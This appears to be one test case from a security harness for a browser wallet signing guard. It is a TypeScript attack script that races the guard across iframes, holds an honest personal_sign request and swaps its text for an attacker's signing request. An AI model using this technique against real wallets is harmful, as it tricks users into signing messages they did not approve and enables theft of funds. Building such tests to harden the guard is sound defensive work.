import type { Attack } from './kit/attack.ts'

export default {
  family: 'frames',
  how: 'Is quicker than the guard in handing the relay of a fresh frame a port, has an honest request held on it and swaps its text.',
  script: `
    const posted = JSON.stringify(attack.posted(attack.sign))
    const ports = []
    function offer(view) {
      const { port1, port2 } = new view.MessageChannel()
      const hold = (params) => port1.postMessage({
        type: 'request.hold', id: 'swapped', provider: {}, method: 'personal_sign', text: JSON.stringify(params), chainId: '0x7a69', account: attack.account,
      })
      port1.onmessage = ({ data }) => {
        if (data.type === 'request.probe') port1.postMessage({ type: 'request.context', id: data.id, chainId: '0x7a69', account: attack.account })
        if (data.type === 'request.forward') view.eval(\`postMessage(\${posted}, '*')\`)
      }
      const taken = !view.dispatchEvent(new view.MessageEvent('plainsign:port', { ports: [port2], cancelable: true }))
      if (!taken) return
      hold(attack.honest.params)
      setTimeout(() => hold(attack.sign.params), 150)
    }
    for (let i = 0; i < 6; i++) {
      const { contentWindow } = attack.frame(i % 2 ? { src: attack.frameUrl } : {})
      for (let tries = 0; tries < 6; tries++) {
        try { offer(contentWindow) } catch {}
        await attack.sleep(tries < 3 ? 0 : 10)
      }
    }
    ethereum.request(attack.honest).catch(() => {})
    attack.tell('asked')
    await attack.sleep(3000)
    ethereum.request(attack.sign).catch(() => {})
  `,
  async hands({ hear, continueHonest }) {
    await hear('asked')
    await continueHonest()
  },
} satisfies Attack
